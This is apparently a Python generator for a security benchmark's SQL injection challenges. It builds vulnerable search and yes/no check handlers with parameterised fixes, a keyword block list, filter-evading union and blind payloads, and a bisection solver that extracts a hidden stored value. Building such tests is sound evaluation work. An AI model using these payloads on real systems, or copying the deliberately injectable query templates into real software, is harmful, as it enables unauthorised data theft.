"""Sections whose search or check puts a visitor's text into a query (CWE-89): shown rows, or one bit an answer."""

from __future__ import annotations

from dataclasses import dataclass
from html import escape
from typing import TYPE_CHECKING
from urllib.parse import quote

from seatrial.battery.families.web.screens import Pools, Refusal, conceal, draw_pipeline, passed
from seatrial.battery.families.web.step import (
    CURRENT,
    Call,
    Setting,
    Step,
    fill,
    kept_layout,
    kept_table,
    store_text,
)

if TYPE_CHECKING:
    from collections.abc import Mapping

    from seatrial.battery.families.web.screens import Pipeline

_REFUSALS = (
    *(Refusal(" "), Refusal("--"), Refusal(r"/\*"), Refusal(";"), Refusal(r"union\s+select"), Refusal("=")),
    *(Refusal("select|SELECT", exact=True), Refusal(r"\x22"), Refusal("sqlite_"), Refusal(r"\bor\b")),
    *(Refusal(r"\band\b"), Refusal("0x"), Refusal("`"), Refusal(r"\[")),
)

_FIND = """
@SITE.route("GET", "/«slug»/find")
def «function»(request):
    «gate»
    text = «tidy»(request.query.get("«field»", ""))
    query = «query»
    return SITE.page("Found", kit.table(SITE.stores["«slug»"].rows(query«values»)))
"""
_CHECK = """
@SITE.route("GET", "/«slug»/check")
def «function»(request):
    «gate»
    text = «tidy»(request.query.get("«field»", ""))
    query = «query»
    known = SITE.stores["«slug»"].first(query«values»)["many"] > 0
    return SITE.page("Answer", "<p>Yes, it is here.</p>" if known else "<p>No, it is not here.</p>")
"""
_UNION_SOLVER = """
    text = conceal(«payload!r», «steps»)
    return client.see("GET", "/«slug»/find", {"«field»": text})
"""
_BLIND_SOLVER = """
    def ask(condition):
        text = conceal(«before!r» + condition + «after!r», «steps»)
        return "Yes" in client.see("GET", "/«slug»/check", {"«field»": text})

    subject = «subject!r»
    if not ask(subject + "<'~'") or ask(subject + "<' '"):
        return ""
    return bisect(lambda guess: ask(subject + "<'" + guess + "'"))
"""
_TOUCH = """
    text = conceal(«payload!r», «steps»)
    return client.see("GET", "/«slug»/«page»", {"«field»": text})
"""


class _Records:
    """What both kinds of section have: a register, and a table of what is kept."""

    def __init__(self, setting: Setting) -> None:
        theme, draw = setting.theme, setting.draw
        self.slug = theme.desk()
        self.thing = theme.thing()
        self.items = f"{self.thing}s"
        self.keep = theme.keep()
        self.column = theme.phrase()
        self.holder = theme.holder()
        self.traits = theme.traits(draw.between(1, 3))
        self.field = draw.choice(("q", "text", "term", "wanted", "name"))
        self.function = f"{self.slug}_{theme.verb()}"
        self.quoted = draw.chance(1, 2)
        names = draw.sample([f"{one}{two}" for one in ("al", "be", "co", "du", "el", "fa") for two in _TAILS], 9)
        self.rows: list[tuple[object, ...]] = [
            (100 + 7 * place, name, draw.between(1, 3), *(theme.value(trait) for trait in self.traits))
            for place, name in enumerate([*names, f"o'{names[0]}"])
        ]
        columns = "id INTEGER PRIMARY KEY, title TEXT, shelf INTEGER" + "".join(
            f", {name} TEXT" for name in self.traits
        )
        kept = f"id INTEGER PRIMARY KEY, holder TEXT, state TEXT, {self.column} TEXT"
        self.sql = store_text({self.items: (columns, self.rows), self.keep: (kept, kept_table(self.holder))})

    def secret(self, *, quoted: bool) -> str:
        """A query for what is kept, without any of the words that a refusal may name."""
        end = f"state\tLIKE\t'{CURRENT}'" if quoted else "id\tIN\t(1)"
        return f"SeLeCT\t{self.column}\tFRoM\t{self.keep}\tWHeRE\t{end}"


_TAILS = ("bar", "dim", "gor", "lan", "mik", "nor", "pel", "rus")


def union(setting: Setting) -> Step:
    """A search whose rows are shown."""
    records = _Records(setting)
    shown = ("title", "shelf", *records.traits)
    words = ("select", "union", "from")
    patterns = (" '", *words) if records.quoted else words
    pipe = draw_pipeline(setting.draw, Pools(patterns, _REFUSALS, words), setting.filters)
    base = f"SELECT {', '.join(shown)} FROM {records.items} WHERE"  # noqa: S608 - the text of a service
    if records.quoted:
        weak = f"f\"{base} title LIKE '%{{text}}%' ORDER BY title\"", ""
        fixed = f'"{base} title LIKE ? ORDER BY title"', ', (f"%{text}%",)'
    else:
        weak = f'f"{base} shelf = {{text}} ORDER BY title"', ""
        fixed = f'"{base} shelf = ? ORDER BY title"', ", (kit.number(text),)"
    payloads = _union_payloads(records, len(shown))
    usual = str(records.rows[0][1])[:4] if records.quoted else str(records.rows[0][2])
    expected = sorted(
        escape(str(row[1]))
        for row in records.rows
        if (usual in str(row[1]) if records.quoted else str(row[2]) == usual)
    )
    calls = (
        Call("find", f"/{records.slug}/find?{records.field}={usual}", actor=setting.probe.login, holds=tuple(expected)),
        Call(
            "find nothing",
            f"/{records.slug}/find?{records.field}=" + ("zzqq" if records.quoted else "77"),
            actor=setting.probe.login,
            holds=("Nothing found",),
        ),
    )
    return _step(setting, records, _Way("sqli-union", "find", _FIND, weak, fixed, pipe, calls, payloads))


def blind(setting: Setting) -> Step:
    """A check that answers yes or no."""
    records = _Records(setting)
    words = ("select", "case", "from", "when")
    patterns = (" '", *words)  # both shapes compare with a quoted guess
    pipe = draw_pipeline(setting.draw, Pools(patterns, _REFUSALS, words), setting.filters)
    base = f"SELECT count(*) AS many FROM {records.items} WHERE"  # noqa: S608 - the text of a service
    if records.quoted:
        weak = f"f\"{base} title = '{{text}}'\"", ""
        fixed = f'"{base} title = ?"', ", (text,)"
    else:
        weak = f'f"{base} id = {{text}}"', ""
        fixed = f'"{base} id = ?"', ", (kit.number(text),)"
    known = str(records.rows[3][1 if records.quoted else 0])
    other = "zzqq" if records.quoted else "99"
    login = setting.probe.login
    path = f"/{records.slug}/check?{records.field}="
    calls = (
        Call("check", path + known, actor=login, holds=("Yes, it is here",)),
        Call("check in vain", path + other, actor=login, holds=("No, it is not here",)),
    )
    payloads = _blind_payloads(records, known)
    return _step(setting, records, _Way("sqli-blind", "check", _CHECK, weak, fixed, pipe, calls, payloads))


def _union_payloads(records: _Records, columns: int) -> list[str]:
    def row(text: str, at: int = 0) -> str:
        return ",".join(text if place == at else "NULL" for place in range(columns))

    column, keep = records.column, records.keep
    start, end = ("zz'", "\tWHeRE\t'1'\tLIKE\t'1") if records.quoted else ("0", "")
    all_rows = f"FRoM\t{keep}"
    condition = records.secret(quoted=records.quoted).partition("\tWHeRE\t")[2].removesuffix("'")
    inner = records.secret(quoted=False)
    glue = ("zz'||(", ")||'") if records.quoted else ("0+(", ")")
    return [
        f"{start}\tUNIoN\taLL\tSeLeCT\t{row(column)}\tFRoM\t{keep}\tWHeRE\t{condition}",
        f"{start}\tUNIoN\taLL\tSeLeCT\t{row(column, 1)}\t{all_rows}{end}",
        f"{start}\tUNIoN\taLL\tSeLeCT\t{row(f'({inner})')}{end}",
        f"{glue[0]}{inner}{glue[1]}",
        f"{glue[0]}SeLeCT\tmax({column})\tFRoM\t{keep}{glue[1]}",
        f"{glue[0]}CaSE\tWHeN\t({inner})>'g'\tTHeN\t1\tELSE\t2\teND{glue[1]}",
        f"{start}\tEXCePT\tSeLeCT\t{row(f'hex({column})')}\t{all_rows}{end}",
    ]


def _blind_payloads(records: _Records, known: str) -> list[str]:
    inner = records.secret(quoted=False)
    column, keep = records.column, records.keep
    before, after = (f"{known}'||(", ")||'") if records.quoted else (f"{known}*(", ")")
    yes, no = ("''", "'zz'") if records.quoted else ("1", "0")
    glued = f"{before}CaSE\tWHeN\t"
    ended = f"\tTHeN\t{yes}\tELSE\t{no}\teND{after}"
    return [
        f"{glued}({inner})<'m'{ended}",
        f"{glued}({inner})\tLIKE\t'f%'{ended}",
        f"{glued}length(({inner}))>9{ended}",
        f"{glued}EXISTS(SeLeCT\t1\tFRoM\t{keep}\tWHeRE\t{column}\tGLOB\t'f*'){ended}",
        f"{before}SeLeCT\tmin({column})\tFRoM\t{keep}{after}",
        f"{glued}(SeLeCT\tmax({column})\tFRoM\t{keep})>'n'{ended}",
    ]


@dataclass(frozen=True)
class _Way:
    """What differs between the two kinds: the page, the query as it is and mended, and the texts to send."""

    technique: str
    page: str
    template: str
    weak: tuple[str, str]  # the query, and what is passed beside it
    fixed: tuple[str, str]
    pipe: Pipeline
    calls: tuple[Call, ...]
    payloads: list[str]  # the solver's first


def _step(setting: Setting, records: _Records, way: _Way) -> Step:
    slug, pipe = records.slug, way.pipe
    names = {"slug": slug, "function": records.function, "tidy": f"{slug}_tidy", "field": records.field}

    def handler(query: tuple[str, str]) -> str:
        return fill(way.template, gate=setting.gate, query=query[0], values=query[1], **names).strip() + "\n"

    usable = [text for text in way.payloads if passed(conceal(text, pipe), pipe) == text]
    common = {"slug": slug, "field": records.field, "steps": pipe.steps}
    touches = tuple(fill(_TOUCH.replace("«payload!r»", repr(text)), page=way.page, **common) for text in usable[1:])
    asked, example = _asked(records, way.page)
    form = (
        f'<form action="/{slug}/{way.page}">The {asked} of a {records.thing.replace("_", " ")}: '
        f'<input name="{records.field}"><button>{way.page.capitalize()}</button></form>'
    )
    return Step(
        technique=way.technique,
        cwe=89,
        number=setting.number,
        slug=slug,
        function=records.function,
        shared=pipe.function(f"{slug}_tidy", "That is not how we write it here."),
        weak=handler(way.weak),
        fixed=handler(way.fixed),
        files={f"{slug}.sql": records.sql},
        layout=kept_layout(setting, slug, records.keep, records.column),
        calls=way.calls,
        strict=_strict(setting, records, way),
        solver=_solver(records, way, common),
        touches=touches,
        needs=("conceal", "bisect") if way.page == "check" else ("conceal",),
        sites=(form, f"<p>For example: {example}.</p>"),
    )


def _solver(records: _Records, way: _Way, common: Mapping[str, object]) -> str:
    if way.page == "find":
        return fill(_UNION_SOLVER.replace("«payload!r»", repr(way.payloads[0])), **common)
    subject = f"({records.secret(quoted=False)})"
    before, after = way.payloads[0].split(f"{subject}<'m'")
    text = _BLIND_SOLVER
    for name, value in (("before", before), ("after", after), ("subject", subject)):
        text = text.replace(f"«{name}!r»", repr(value))
    return fill(text, **common)


def _asked(records: _Records, page: str) -> tuple[str, object]:
    """What a form asks for, and an example of it."""
    if records.quoted:
        return "name", records.rows[0][1]
    return ("number of a shelf", records.rows[0][2]) if page == "find" else ("number", records.rows[0][0])


def _strict(setting: Setting, records: _Records, way: _Way) -> tuple[Call, ...]:
    """A name with an apostrophe, where the filters let one through."""
    name = str(records.rows[-1][1])
    if not records.quoted or passed(name, way.pipe) != name:
        return ()
    wanted = escape(name) if way.page == "find" else "Yes, it is here"
    path = f"/{records.slug}/{way.page}?{records.field}={quote(name)}"
    return (Call("apostrophe", path, actor=setting.probe.login, holds=(wanted,)),)
